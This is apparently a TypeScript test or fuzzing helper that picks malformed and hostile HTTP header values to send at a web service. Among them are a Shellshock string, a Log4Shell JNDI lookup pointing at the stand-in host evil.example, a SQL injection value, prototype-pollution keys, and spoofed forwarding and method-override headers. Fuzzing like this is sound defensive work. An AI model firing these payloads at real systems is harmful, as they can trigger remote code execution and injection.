import type { Random } from '../../support/seeded.js'
import type { Pair } from './request.js'

/** Up to two headers with which something is wrong. */
export function oddHeaders(random: Random): Pair[] {
  return Array.from({ length: random.below(3) }, () => {
    const [name, values] = random.pick(ODD_HEADERS)
    return [name, random.pick(values)]
  })
}

const ODD_HEADERS: [string, string[]][] = [
  ['Accept-Language', ['__proto__', 'fr;q=NaN', '*', '\xff', 'a'.repeat(4_000), 'fr,'.repeat(900), '<zqx>']],
  [
    'Accept-Encoding',
    [
      'gzip',
      'br',
      'deflate;q=0.5',
      '*;q=0',
      'gzip;q=9',
      ',,;;',
      'identity;q=0',
      '__proto__',
      'gzip,'.repeat(700),
    ],
  ],
  ['Accept', ['application/json', '*/*;q=-1', '__proto__', 'text/html;level=1;q="']],
  [
    'Range',
    [
      'bytes=0-',
      'bytes=-1',
      'bytes=9999999999-',
      'bytes=0-0,2-1,5-',
      'lines=1-2',
      'bytes=\xff',
      `bytes=${'0-1,'.repeat(900)}`,
    ],
  ],
  ['If-None-Match', ['*', '"', 'W/"x', `"${'x'.repeat(4_000)}"`, '__proto__', `${'"x",'.repeat(900)}`]],
  ['If-Modified-Since', ['yesterday', '0', 'Fri, 31 Feb 9999 99:99:99 GMT', '-1']],
  ['If-Match', ['*', '"a"']],
  ['If-Range', ['"a"', 'x']],
  ['User-Agent', ['<zqx>', '() { :;}; zqx', `$\{jndi:ldap://evil.example/zqx}`, '', 'u'.repeat(5_000)]],
  ['Referer', ['https://evil.example/', 'javascript:zqx', '//', 'r'.repeat(3_000)]],
  ['Origin', ['null', 'https://evil.example', '//', 'http://localhost.evil.example']],
  ['Sec-Fetch-Site', ['cross-site', 'same-origin', '__proto__', 'none']],
  ['X-Forwarded-Host', ['evil.example', '<zqx>', '']],
  ['X-Forwarded-Proto', ['http', 'https', 'javascript', 'http, https', '\xff']],
  [
    'X-Forwarded-For',
    ['<zqx>', 'unknown', ',,,', '::1%zqx', '999.999.999.999', '[::1]:80', `${'1.1.1.1, '.repeat(400)}x`],
  ],
  ['Fly-Client-IP', ['zqx', '::', "' or 1=1"]],
  ['Forwarded', ['for=evil;host=evil.example;proto=http', 'for="_zqx"']],
  ['X-Original-URL', ['/dinum', '/agent']],
  ['X-HTTP-Method-Override', ['DELETE', 'PUT']],
  ['X-Fragment', ['resultats', '__proto__', 'zqx']],
  ['X-Request-ID', ['zqx', '<zqx>', '\xff']],
  [
    'Authorization',
    ['Bearer', 'Bearer \xff', 'Basic OjpA', `Bearer ${'t'.repeat(6_000)}`, 'bearer __proto__'],
  ],
  [
    'Cookie',
    [
      'qf=',
      'qf=%00',
      'qf="',
      'qf=%ff%fe; qf-agent=zqx',
      '__proto__=x; constructor=y',
      ';;;===;',
      `qf=${'c'.repeat(5_000)}`,
      `${'a=b; '.repeat(1_000)}`,
      'qf-sortie=zqx',
    ],
  ],
  ['Upgrade', ['websocket', 'h2c', 'zqx']],
  ['TE', ['trailers, zqx', 'chunked']],
  ['Content-Encoding', ['gzip', 'br, zqx']],
  ['Content-Language', ['__proto__']],
  ['__proto__', ['zqx']],
  ['constructor', ['zqx']],
]
